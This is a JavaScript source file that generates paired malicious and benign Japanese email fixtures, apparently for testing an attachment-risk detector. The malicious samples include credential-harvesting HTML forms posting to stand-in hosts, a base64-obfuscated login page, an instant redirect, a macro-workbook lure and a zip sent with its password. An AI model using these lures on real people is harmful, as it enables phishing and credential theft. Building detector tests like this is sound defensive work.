/** Writes the samples of signals about what is in a file, beside the signals: node corpus/make/signals.mjs. What it needs: files.mjs. */
import { writeFileSync } from 'node:fs'
import { lockedZip, pdf, workbook } from './files.mjs'
import { leaf, mail, multi, plain, word } from './wire.mjs'

const folder = new URL('../../packages/signals/src/', import.meta.url)
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const XLSM = 'application/vnd.ms-excel.sheet.macroEnabled.12'

let number = 0
function write(path, { from, subject, text, name, type, data }) {
  number++
  const part = leaf(type, Buffer.from(data), {
    cte: 'base64',
    charset: '',
    params: `; name="${word(name)}"`,
    headers: [`Content-Disposition: attachment; filename="${word(name)}"`],
  })
  const bytes = mail({
    from,
    subject,
    date: `Mon, 16 Nov 2026 09:${10 + number}:00 +0900`,
    id: `20261116.${5000 + number}@${from[1].split('@')[1]}`,
    body: multi('mixed', '----=_Part_2001_77.1763', [plain(text), part]),
  })
  writeFileSync(new URL(`${path}.eml`, folder), bytes)
}
const page = (title, body) =>
  `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>${title}</title></head>\n<body>${body}</body></html>\n`

write('secret-page-attached/ng.card-page', {
  from: ['会員カード事務局', 'jimukyoku@kaiin-card.example'],
  subject: '会員情報の更新のお願い',
  text: '会員カードの情報を更新してください。添付のページを開き、本日中にご入力をお願いします。\n',
  name: '会員情報.html',
  type: 'text/html',
  data: page(
    '会員情報',
    '<h1>会員情報の更新</h1><form action="https://kaiin-card.example/in" method="post"><p>カード番号 <input name="cc" autocomplete="cc-number"></p><p>パスワード <input type="password" name="pw"></p><button>送信</button></form>',
  ),
})
write('secret-page-attached/ok.encrypted-mail-page', {
  from: ['つばき損害保険', 'anzen@tsubaki-hoken.example'],
  subject: '【暗号化メール】ご契約内容のお知らせ',
  text: '暗号化したメールをお届けします。添付のページを開き、リンク先で、ご契約時に決めたパスワードを使ってご覧ください。\n',
  name: '暗号化メール.html',
  type: 'text/html',
  data: page(
    '暗号化メール',
    '<h1>暗号化メールが届いています</h1><p>パスワードは、つばき損害保険のページで入力してください。</p><p><a href="https://anzen.tsubaki-hoken.example/m/5512">メールを読む</a></p>',
  ),
})

write('concealed-file/ng.page-leaves-at-once', {
  from: ['複合機', 'scan@fukugoki-soshin.example'],
  subject: 'スキャンした文書（3ページ）',
  text: 'スキャンした文書をお届けします。\n',
  name: 'スキャン_1116.html',
  type: 'text/html',
  data: '<html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://bunsho.fukugoki-soshin.example/"></head><body>開いています…</body></html>\n',
})
const hidden = page(
  'サインイン',
  '<h1>サインイン</h1><form action="https://shiharai-annai.example/in" method="post"><input type="email" name="u"><input type="password" name="p"><button>次へ</button></form>',
)
write('concealed-file/ng.page-in-a-script', {
  from: ['経理部', 'keiri@shiharai-annai.example'],
  subject: '支払案内書',
  text: '支払案内書を添付します。ご確認ください。\n',
  name: '支払案内書.html',
  type: 'text/html',
  data: page(
    '支払案内書',
    `<script>document.write(decodeURIComponent(escape(atob('${Buffer.from(hidden).toString('base64')}'))))</script>`,
  ),
})
write('concealed-file/ok.printable-page', {
  from: ['ひばり動物病院', 'uketsuke@hibari-vet.example'],
  subject: '診療明細書をお送りします',
  text: '本日の診療明細書です。印刷してお使いください。\n',
  name: '診療明細書.html',
  type: 'text/html',
  data: page(
    '診療明細書',
    '<h1>診療明細書</h1><table><tr><td>予防接種</td><td>3,300円</td></tr></table><p><a href="https://www.hibari-vet.example/">ひばり動物病院</a></p><button onclick="window.print()">印刷</button><script>document.title = "診療明細書 " + document.lastModified.slice(0, 10)</script>',
  ),
})

write('active-document/ng.workbook-with-macro', {
  from: ['営業部 新田', 'nitta@mitsumori-annai.example'],
  subject: '見積書の件',
  text: '見積書をお送りします。開いたら「コンテンツの有効化」を押してください。\n',
  name: '見積書.xlsm',
  type: XLSM,
  data: workbook([['見積書'], ['合計', 84000]], { macro: true }),
})
write('active-document/ok.invoice-workbook', {
  from: ['ひばり印刷', 'seikyu@hibari-insatsu.example'],
  subject: '請求書（10月分）',
  text: '10月分の請求書をお送りします。ご査収ください。\n\nひばり印刷\n',
  name: '請求書_10月.xlsx',
  type: XLSX,
  data: workbook([['請求書'], ['名刺印刷', 12000], ['ひばり印刷', 'https://www.hibari-insatsu.example/']]),
})

write('password-beside-file/ng.invoice-and-password', {
  from: ['経理担当', 'tanto@seikyusho-annai.example'],
  subject: 'Re: ご請求書',
  text: 'ご請求書を添付しました。至急ご確認ください。\n解凍パスワード：4471\n',
  name: '請求書.zip',
  type: 'application/zip',
  data: lockedZip({ 'seikyu.xlsm': workbook([['請求書', 1]], { macro: true }) }, '4471'),
})
write('password-beside-file/ok.password-comes-later', {
  from: ['つばき設計 木原', 'kihara@tsubaki-sekkei.example'],
  subject: '図面の送付',
  text: 'お世話になっております。つばき設計の木原です。\n\n図面をお送りします。ファイルのパスワードは、別途お電話でお伝えします。\n',
  name: '図面.zip',
  type: 'application/zip',
  data: lockedZip({ 'zumen.pdf': pdf({ lines: [[60, 760, 18, '図面']] }) }, 'tsubaki-16'),
})
